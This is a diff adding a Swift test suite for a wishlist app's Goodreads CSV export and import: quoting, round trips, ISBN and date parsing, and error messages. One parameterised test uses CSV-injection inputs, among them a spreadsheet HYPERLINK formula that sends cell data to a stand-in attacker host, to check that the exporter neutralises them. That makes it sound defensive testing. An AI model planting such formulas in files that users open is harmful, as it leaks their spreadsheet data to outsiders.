@@ -1,0 +1,269 @@
+import Foundation
+import Testing
+@testable import Wishlist
+
+@Suite("Goodreads CSV export and import")
+struct GoodreadsCSVTests {
+    private static let goodreadsHeader = "Book Id,Title,Author,Author l-f,Additional Authors,ISBN,ISBN13,My Rating,Average Rating,Publisher,Binding,Number of Pages,Year Published,Original Publication Year,Date Read,Date Added,Bookshelves,Bookshelves with positions,Exclusive Shelf,My Review,Spoiler,Private Notes,Read Count,Owned Copies"
+
+    private static func day(_ year: Int, _ month: Int, _ day: Int) -> Date {
+        CivilDateTime.date(year: year, month: month, day: day)
+    }
+
+    private static func row(
+        title: String = "Tomorrow, and Tomorrow, and Tomorrow", author: String = "Gabrielle Zevin",
+        isbn10: String = "0593321200", isbn13: String = "9780593321201", publisher: String = "Knopf",
+        dateAdded: Date = day(2024, 1, 15), notes: String = ""
+    ) -> GoodreadsExportRow {
+        GoodreadsExportRow(title: title, author: author, isbn10: isbn10, isbn13: isbn13, publisher: publisher, dateAdded: dateAdded, notes: notes)
+    }
+
+    /// The export rows a parse gives back, for comparing with what was exported.
+    private static func exportRows(_ result: GoodreadsImport) -> [GoodreadsExportRow] {
+        result.books.map {
+            GoodreadsExportRow(
+                title: $0.title, author: $0.author, isbn10: $0.isbn10, isbn13: $0.isbn13,
+                publisher: $0.publisher, dateAdded: $0.dateAdded ?? .distantPast, notes: $0.notes
+            )
+        }
+    }
+
+    /// The export's lines after the header, split at CRLF (quoted fields below hold only LF).
+    private static func dataLines(_ csv: String) -> [String] {
+        Array(csv.split(separator: "\r\n", omittingEmptySubsequences: false).dropFirst().map(String.init))
+    }
+
+    private static func parseError(_ text: String, maxRows: Int = 5000) -> String? {
+        do {
+            _ = try GoodreadsCSV.parse(text, maxRows: maxRows)
+            return nil
+        } catch let error as GoodreadsCSVError {
+            return error.message
+        } catch {
+            return "unexpected error \(error)"
+        }
+    }
+
+    // MARK: Export
+
+    @Test func headerIsGoodreadsColumnsInOrder() {
+        #expect(GoodreadsCSV.header.joined(separator: ",") == Self.goodreadsHeader)
+        #expect(GoodreadsCSV.export([]) == Self.goodreadsHeader + "\r\n")
+    }
+
+    @Test func exportWritesOneGoodreadsRowPerItem() {
+        let csv = GoodreadsCSV.export([Self.row(notes: "Gift for Sam")])
+        #expect(Self.dataLines(csv) == [
+            ",\"Tomorrow, and Tomorrow, and Tomorrow\",Gabrielle Zevin,,,0593321200,9780593321201,0,,Knopf,,,,,,2024/01/15,to-read,,to-read,,,Gift for Sam,0,0",
+            "",
+        ])
+        #expect(!csv.contains("=\""), "ISBNs are plain digits, not Goodreads' =\"…\" formulas")
+    }
+
+    @Test func exportQuotesCommasQuotesAndLineBreaks() {
+        let csv = GoodreadsCSV.export([Self.row(title: "Say \"Hi\", Bob", author: "Plain", notes: "one\ntwo\r\nthree\rfour")])
+        let expected = ",\"Say \"\"Hi\"\", Bob\",Plain,,,0593321200,9780593321201,0,,Knopf,,,,,,2024/01/15,to-read,,to-read,,,\"one\ntwo\r\nthree\rfour\",0,0\r\n"
+        #expect(csv == Self.goodreadsHeader + "\r\n" + expected)
+    }
+
+    @Test("Formula-like cells get an apostrophe and lose it again on import", arguments: [
+        "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")",
+        "+1",
+        "-2",
+        "@SUM(A1:A9)",
+        "\tcmd",
+        "\rcmd",
+        "'=already quoted",
+    ])
+    func formulaCellsAreNeutralised(value: String) throws {
+        let item = Self.row(title: "Title", author: "Author", publisher: "Pub", notes: value)
+        let csv = GoodreadsCSV.export([item])
+        let notesCell = value.contains("\"") || value.contains("\r") ? "\"'" : "'"
+        #expect(Self.dataLines(csv)[0].contains(",,," + notesCell), "the Private Notes cell starts with an apostrophe")
+        #expect(try Self.exportRows(GoodreadsCSV.parse(csv)) == [item])
+    }
+
+    @Test func everyFormulaTriggerIsGuardedInEveryColumn() throws {
+        let item = Self.row(title: "=1+1", author: "+Author", isbn10: "-", isbn13: "@", publisher: "\tPub", notes: "=2")
+        let line = try #require(Self.dataLines(GoodreadsCSV.export([item])).first)
+        #expect(line == ",'=1+1,'+Author,,,'-,'@,0,,'\tPub,,,,,,2024/01/15,to-read,,to-read,,,'=2,0,0")
+    }
+
+    // MARK: Round trips
+
+    @Test func unicodeRoundTrips() throws {
+        let item = Self.row(
+            title: "Cien años de soledad 📚",
+            author: "Gabriel García Márquez",
+            publisher: "دار الآداب — שלום",
+            notes: "👩‍👩‍👧 family read; e\u{301} stays decomposed; 中文"
+        )
+        let parsed = try GoodreadsCSV.parse(GoodreadsCSV.export([item]))
+        #expect(Self.exportRows(parsed) == [item])
+        #expect(parsed.books[0].notes.unicodeScalars.elementsEqual(item.notes.unicodeScalars))
+    }
+
+    @Test func exportThenParseGivesBackTheRows() throws {
+        let items = [
+            Self.row(),
+            Self.row(title: "The \"Quoted\" Title, With Comma", author: "O'Brien, Flann", isbn10: "", isbn13: "",
+                     publisher: "", dateAdded: Self.day(1999, 12, 31), notes: "  spaced  \nsecond line\r\n"),
+            Self.row(title: "'Apostrophe", author: "'", isbn10: "080442957X", isbn13: "9780804429573",
+                     publisher: "Vintage", dateAdded: Self.day(2024, 2, 29), notes: "-minus first\n=equals second"),
+            Self.row(title: "Last", author: "", publisher: "A, B & C", dateAdded: Self.day(2025, 7, 4), notes: "\"quoted\""),
+        ]
+        let parsed = try GoodreadsCSV.parse(GoodreadsCSV.export(items))
+        #expect(Self.exportRows(parsed) == items)
+        #expect(parsed.books.map(\.line) == [2, 3, 6, 8])
+        #expect(parsed.skipped.isEmpty)
+    }
+
+    // MARK: Reading Goodreads' own files
+
+    @Test func goodreadsExportKeepsOnlyToReadBooks() throws {
+        let csv = Self.goodreadsHeader + "\r\n"
+            + "2767052,\"The Hunger Games (The Hunger Games, #1)\",Suzanne Collins,\"Collins, Suzanne\",,\"=\"\"0439023483\"\"\",\"=\"\"9780439023481\"\"\",0,4.33,Scholastic Press,Hardcover,374,2008,2008,,2024/03/02,to-read,to-read (#2),to-read,,,,0,0\r\n"
+            + "4671,The Great Gatsby,F. Scott Fitzgerald,\"Fitzgerald, F. Scott\",,\"=\"\"0743273567\"\"\",\"=\"\"9780743273565\"\"\",4,3.93,Scribner,Paperback,200,2004,1925,2023/08/19,2023/06/01,,,read,\"Loved it.\r\nThe green light!\r\n\r\nWould reread.\",,,1,0\r\n"
+            + "58490567,Sea of Tranquility,Emily St. John Mandel,\"Mandel, Emily St. John\",,\"=\"\"\"\"\",\"=\"\"\"\"\",0,3.98,Knopf,Kindle Edition,259,2022,2022,,2024/03/05,to-read,to-read (#3),to-read,,,\"Ask Jo, she has it\",0,0\r\n"
+        let result = try GoodreadsCSV.parse(csv)
+        #expect(result.books == [
+            GoodreadsImportedBook(
+                title: "The Hunger Games (The Hunger Games, #1)", author: "Suzanne Collins",
+                isbn10: "0439023483", isbn13: "9780439023481", publisher: "Scholastic Press",
+                dateAdded: Self.day(2024, 3, 2), notes: "", line: 2
+            ),
+            GoodreadsImportedBook(
+                title: "Sea of Tranquility", author: "Emily St. John Mandel",
+                isbn10: "", isbn13: "", publisher: "Knopf",
+                dateAdded: Self.day(2024, 3, 5), notes: "Ask Jo, she has it", line: 7
+            ),
+        ])
+        #expect(result.skipped == [
+            GoodreadsImport.Skip(line: 3, title: "The Great Gatsby", reason: "on the “read” shelf, not “to-read”"),
+        ])
+    }
+
+    @Test func columnsAreFoundByNameWhateverTheirOrderAndCase() throws {
+        let csv = "\u{FEFF} isbn13 ,TITLE,Date Added,Notes\n\"=\"\"9780593321201\"\"\",Dune,2021-05-06,ignored\n"
+        let result = try GoodreadsCSV.parse(csv)
+        #expect(result.books == [
+            GoodreadsImportedBook(title: "Dune", author: "", isbn10: "", isbn13: "9780593321201", publisher: "",
+                                  dateAdded: Self.day(2021, 5, 6), notes: "", line: 2),
+        ])
+    }
+
+    @Test func withoutAnExclusiveShelfColumnEveryRowIsABook() throws {
+        let result = try GoodreadsCSV.parse("Title,Author\nOne,A\nTwo,B\n")
+        #expect(result.books.map(\.title) == ["One", "Two"])
+    }
+
+    @Test func shortRowsArePaddedAndValuesTrimmedExceptNotes() throws {
+        let result = try GoodreadsCSV.parse("Title,Author,Publisher,Private Notes\r\n  Padded  ,\t Someone \r\nWith notes,,,\"  keep me \n\"\r\n")
+        #expect(result.books.map(\.title) == ["Padded", "With notes"])
+        #expect(result.books.map(\.author) == ["Someone", ""])
+        #expect(result.books.map(\.notes) == ["", "  keep me \n"])
+    }
+
+    @Test func isbnsAreCleanedAndWrongLengthsDropped() throws {
+        let csv = "Title,ISBN,ISBN13\nA,\"=\"\"080442957x\"\"\",978-0-8044-2957-3\nB,12345,\"=\"\"978080442957\"\"\"\nC, 0 8 0 4 4 2 9 5 7 X ,\n"
+        let result = try GoodreadsCSV.parse(csv)
+        #expect(result.books.map(\.isbn10) == ["080442957X", "", "080442957X"])
+        #expect(result.books.map(\.isbn13) == ["9780804429573", "", ""])
+    }
+
+    @Test("Dates that are not real yyyy/MM/dd or yyyy-MM-dd days are dropped", arguments: [
+        ("2024/02/29", Optional(day(2024, 2, 29))),
+        ("2024-2-9", Optional(day(2024, 2, 9))),
+        ("2023/02/29", nil),
+        ("2024/13/01", nil),
+        ("15/01/2024", nil),
+        ("2024/01", nil),
+        ("2024/01-15", nil),
+        ("", nil),
+    ])
+    func datesAdded(text: String, expected: Date?) throws {
+        let result = try GoodreadsCSV.parse("Title,Date Added\nBook,\(text)\n")
+        #expect(result.books.first?.dateAdded == expected)
+    }
+
+    @Test func linesAreCountedAcrossEveryKindOfLineBreak() throws {
+        let csv = "Title,Private Notes\rOne,x\n\"Two\",\"a\r\nb\rc\nd\"\r\n\r\nThree,y"
+        let result = try GoodreadsCSV.parse(csv)
+        #expect(result.books.map(\.title) == ["One", "Two", "Three"])
+        #expect(result.books.map(\.line) == [2, 3, 8])
+        #expect(result.books[1].notes == "a\r\nb\rc\nd")
+    }
+
+    // MARK: Skipped rows
+
+    @Test func skippedRowsSayWhy() throws {
+        let longTitle = String(repeating: "T", count: 501)
+        let csv = [
+            "Title,Author,Exclusive Shelf,Private Notes",
+            "  ,Nobody,to-read,",
+            "Finished,Someone,read,",
+            "Abandoned,Someone,currently-reading,",
+            "Shelfless,Someone,,",
+            "\(longTitle),Someone,to-read,",
+            "Long author,\(String(repeating: "a", count: 301)),to-read,",
+            "Long notes,Someone,to-read,\(String(repeating: "n", count: 2001))",
+            "\(String(repeating: "t", count: 500)),\(String(repeating: "a", count: 300)),To-Read,\(String(repeating: "n", count: 2000))",
+        ].joined(separator: "\n")
+        let result = try GoodreadsCSV.parse(csv)
+        #expect(result.skipped == [
+            GoodreadsImport.Skip(line: 2, title: "", reason: "no title"),
+            GoodreadsImport.Skip(line: 3, title: "Finished", reason: "on the “read” shelf, not “to-read”"),
+            GoodreadsImport.Skip(line: 4, title: "Abandoned", reason: "on the “currently-reading” shelf, not “to-read”"),
+            GoodreadsImport.Skip(line: 5, title: "Shelfless", reason: "not on the “to-read” shelf"),
+            GoodreadsImport.Skip(line: 6, title: String(repeating: "T", count: 99) + "…", reason: "the title is longer than 500 characters"),
+            GoodreadsImport.Skip(line: 7, title: "Long author", reason: "the author is longer than 300 characters"),
+            GoodreadsImport.Skip(line: 8, title: "Long notes", reason: "the notes are longer than 2,000 characters"),
+        ])
+        #expect(result.books.map(\.line) == [9], "limits are inclusive and the shelf is matched case-insensitively")
+    }
+
+    // MARK: Files that cannot be read
+
+    @Test("Empty files are refused", arguments: ["", "\u{FEFF}", "\r\n\n\r"])
+    func emptyFile(text: String) {
+        #expect(Self.parseError(text) == "This file is empty; export your books from Goodreads (My Books → Import and export) and upload that file.")
+    }
+
+    @Test func missingTitleColumn() {
+        #expect(Self.parseError("Book Id,Name,Author\n1,Dune,Herbert\n")
+            == "This file has no Title column; export your books from Goodreads (My Books → Import and export) and upload that file.")
+    }
+
+    @Test func unclosedQuoteNamesTheLineItOpensOn() {
+        #expect(Self.parseError("Title,Private Notes\r\nA,\"fine\r\nstill fine\"\r\nB,\"never\r\nclosed\r\n")
+            == "Line 4: a quoted field is never closed.")
+    }
+
+    @Test func quoteInsideAnUnquotedField() {
+        #expect(Self.parseError("Title\nOne\nTwo \"Three\"\n")
+            == "Line 3: a quotation mark appears in the middle of a field that does not start with one.")
+    }
+
+    @Test func textAfterAClosingQuote() {
+        #expect(Self.parseError("Title\n\"Dune\" Messiah\n")
+            == "Line 2: a quoted field has more text after its closing quotation mark.")
+    }
+
+    @Test func nulBytes() {
+        #expect(Self.parseError("Title\nOne\n\"Two\nT\u{0}wo\"\n")
+            == "Line 4: the file contains a NUL byte, so it is not a CSV text file; export your books from Goodreads (My Books → Import and export) and upload that file.")
+    }
+
+    @Test func rowsLongerThanTheHeader() {
+        #expect(Self.parseError("Title,Author\nDune,Herbert\nMiddlemarch,George,Eliot\n")
+            == "Line 3: this row has 3 fields but the header has 2; a value with a comma in it may be missing its quotation marks.")
+    }
+
+    @Test func tooManyRows() throws {
+        let threeRows = "Title\nA\nB\n\nC\n"
+        #expect(try GoodreadsCSV.parse(threeRows, maxRows: 3).books.count == 3, "blank lines are not rows")
+        #expect(Self.parseError(threeRows + "D\n", maxRows: 3) == "This file has more than 3 rows; split it and upload the parts.")
+        let tooMany = "Title\n" + String(repeating: "x\n", count: 5001)
+        #expect(Self.parseError(tooMany) == "This file has more than 5,000 rows; split it and upload the parts.")
+    }
+}
